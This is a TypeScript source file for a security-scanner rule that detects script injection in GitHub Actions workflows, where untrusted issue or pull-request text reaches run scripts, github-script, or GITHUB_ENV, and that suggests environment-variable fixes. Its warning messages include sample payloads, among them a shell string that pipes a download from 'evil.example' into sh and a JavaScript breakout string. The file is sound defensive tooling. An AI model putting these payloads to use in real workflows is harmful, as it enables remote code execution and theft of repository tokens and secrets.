/** An expression of a workflow puts text that somebody else writes into a script before it runs. */

import { fetchesArtifact, fetchesHead } from "../server/rule/brought.ts";
import { environmentFix } from "../server/rule/fix/workflow-env.ts";
import {
  type Fix,
  type ManifestFile,
  type Match,
  rule,
  type Severity,
  type Span,
} from "../server/rule/rule.ts";
import {
  ofVariable,
  type Place,
  untrusted,
  variablesIn,
  type Who,
} from "../server/rule/untrusted.ts";
import {
  actionOf,
  eventsAt,
  PRIVILEGED,
  type Step,
  WORKFLOW_NAMES,
  WORKFLOW_PATHS,
  workflow,
} from "../server/rule/workflow.ts";
import { at, type YamlText } from "../server/rule/yaml.ts";
import { scriptHoles } from "../server/rule/yaml-script.ts";

const SEVERITY: Readonly<Record<Who, Severity>> = {
  outsider: "critical",
  contributor: "high",
  unknown: "high",
  fork: "medium",
  caller: "medium",
  writer: "low",
};
/** Actions that run the text of their input `script` as JavaScript. */
const SCRIPTS: ReadonlySet<string> = new Set(["actions/github-script"]);

export default rule({
  id: "gha-script-injection",
  title: "Untrusted text becomes part of a workflow's script",
  category: "injection",
  severity: "critical",
  cwe: [94],
  owasp: ["A03:2021", "A05:2025"],
  manifest: {
    names: WORKFLOW_NAMES,
    paths: WORKFLOW_PATHS,
    check,
    fixes: (match, file) => [fix(match, file)],
  },
  say: ({ facts }) => {
    const source = String(facts?.source);
    if (facts?.target !== undefined)
      return {
        what: `Text of several lines from ${source} is written to ${String(facts.target)}.`,
        why: "A line of its own in that text sets any variable for the steps that follow, such as NODE_OPTIONS or LD_PRELOAD, and so runs code in them.",
        fix: "Hand the text to the step that needs it with env:, or write it with a random end mark (NAME<<random).",
      };
    return {
      what: `\${{ ${source} }} is replaced by its text before the ${String(facts?.script)} runs, and ${WRITES[facts?.who as Who]}.`,
      why: `Text such as ${facts?.script === "JavaScript" ? "`);process.exit()//" : '"; curl https://evil.example/x | sh; #'} in it runs as code${GAINS[facts?.who as Who]}.`,
      fix: `Hand it over as data: env: with a variable, and ${facts?.script === "JavaScript" ? "process.env.NAME" : '"$NAME" in quotes'} in the script.`,
    };
  },
});

const WRITES: Readonly<Record<Who, string>> = {
  outsider: "anybody may write it",
  contributor: "whoever contributes a commit writes it",
  unknown: "whoever opens the issue or pull request writes it",
  fork: "whoever opens a pull request writes it",
  caller: "the caller decides what it is",
  writer: "people with write access write it",
};
const GAINS: Readonly<Record<Who, string>> = {
  outsider: ", with the repository's token and the secrets of this job",
  contributor: ", with the repository's token and the secrets of this job",
  unknown: ", with the rights of the workflow that uses this",
  fork: "; on a fork's pull request the token can only read, on a branch of the repository it has its rights",
  caller: ", if a workflow passes on what an outsider wrote",
  writer: ", which skips the review that a change of this file would need",
};

function check(file: ManifestFile): readonly Match[] {
  const flow = workflow(file.file, file.text);
  if (flow === undefined) return [];
  const isInternal = flow.isAction && /(?:^|\/)\.github\//.test(file.file);
  const out = new Map<number, Match>();
  for (const job of flow.jobs)
    for (const step of job.steps) {
      const place: Place = { flow, job, step, isInternal };
      for (const { text, script } of scriptsOf(step)) {
        for (const hole of scriptHoles(file.text, text)) {
          const [worst] = untrusted(hole.source, place);
          if (worst === undefined) continue;
          const { source, who, guessed } = worst;
          out.set(hole.start, {
            item: `${file.file}#`,
            span: { start: hole.start, end: hole.end },
            severity: SEVERITY[who],
            confidence: guessed || who === "unknown" ? "medium" : "high",
            facts: { source, who, script, expression: hole.source.trim() },
          });
        }
        if (script !== "JavaScript") environmentWrites(file, text, place, out);
      }
    }
  return [...out.values()];
}

function scriptsOf(step: Step): readonly { readonly text: YamlText; readonly script: string }[] {
  const run = step.run?.value;
  const shell = at(step.node, "shell");
  return [
    ...(run?.kind === "text" ? [{ text: run, script: "script" }] : []),
    ...(shell?.kind === "text" ? [{ text: shell, script: "shell" }] : []),
    ...(step.script !== undefined && SCRIPTS.has(actionOf(step))
      ? [{ text: step.script, script: "JavaScript" }]
      : []),
  ];
}

/** `cat pr/env >> $GITHUB_ENV`, `echo "N=$(cat number.txt)" >> ...`, `$(<file)`. */
const FROM_FILE =
  /\$\(\s*(?:cat|jq|head|tail|<)\s*[^)]*\)|`cat\s[^`]*`|^\s*(?:cat|jq|head|tail)\s+[^|>]*(?=[|>])/;
/** Before this step a stranger's files came into the folder, in a run with the rights of the repository. */
function brought({ flow, job, step }: Place): boolean {
  const until = step === undefined ? job.steps.length : job.steps.indexOf(step);
  return job.steps.slice(0, Math.max(0, until)).some((one) => {
    const events = eventsAt(flow, job, one).filter(({ name }) => PRIVILEGED.has(name));
    return (
      fetchesHead(flow, job, one, events) !== undefined ||
      fetchesArtifact(one, events) !== undefined
    );
  });
}

/** `echo "TEXT=$BODY" >> $GITHUB_ENV`: a text of several lines sets other variables too. */
function environmentWrites(
  { file, text }: ManifestFile,
  script: YamlText,
  place: Place,
  out: Map<number, Match>,
): void {
  const source = text.slice(script.span.start, script.span.end);
  for (const { 0: line, index } of source.matchAll(/[^\r\n]+/g)) {
    const target = />>?\s*["']?\$\{?(GITHUB_(?:ENV|PATH))\b/.exec(line)?.[1];
    if (target === undefined) continue;
    const read = FROM_FILE.exec(line);
    if (read !== null && brought(place)) {
      const start = script.span.start + index + read.index;
      out.set(start, {
        item: `${file}#`,
        span: { start, end: start + read[0].length },
        severity: "high",
        confidence: "medium",
        facts: { source: "a file of somebody else's pull request", script: "script", target },
      });
    }
    for (const variable of variablesIn(line)) {
      const worst = ofVariable(variable.name, place).find(
        ({ lines, who }) => lines && (who === "outsider" || who === "contributor"),
      );
      if (worst === undefined) continue;
      const start = script.span.start + index + variable.start;
      const span: Span = { start, end: start + variable.end - variable.start };
      const facts = { source: worst.source, who: worst.who, script: "script", target };
      out.set(start, { item: `${file}#`, span, severity: "high", confidence: "medium", facts });
    }
  }
}

function fix({ span, facts }: Match, file: ManifestFile): Fix {
  const flow = workflow(file.file, file.text);
  const title = "Hand the text over in an environment variable";
  const manual = (reason: string): Fix => ({ title, grade: "manual", edits: [], reason });
  if (facts?.target !== undefined)
    return manual(
      "Whether a later step needs the whole text only you can tell. Give it to that step with env:, or write it with a random end mark.",
    );
  for (const job of flow?.jobs ?? [])
    for (const step of job.steps)
      for (const { text, script } of scriptsOf(step)) {
        if (!(text.span.start <= span.start && span.end <= text.span.end)) continue;
        if (flow === undefined || script === "shell")
          return manual("A shell cannot be told by data: write the one that is meant.");
        const made = environmentFix(file, {
          flow,
          job,
          step,
          text,
          span,
          isJavaScript: script === "JavaScript",
        });
        return typeof made === "string"
          ? manual(made)
          : {
              title,
              grade: made.isSame ? "safe" : "suggested",
              edits: [{ file: file.file, edits: made.edits }],
            };
      }
  return manual("The step was not found again.");
}
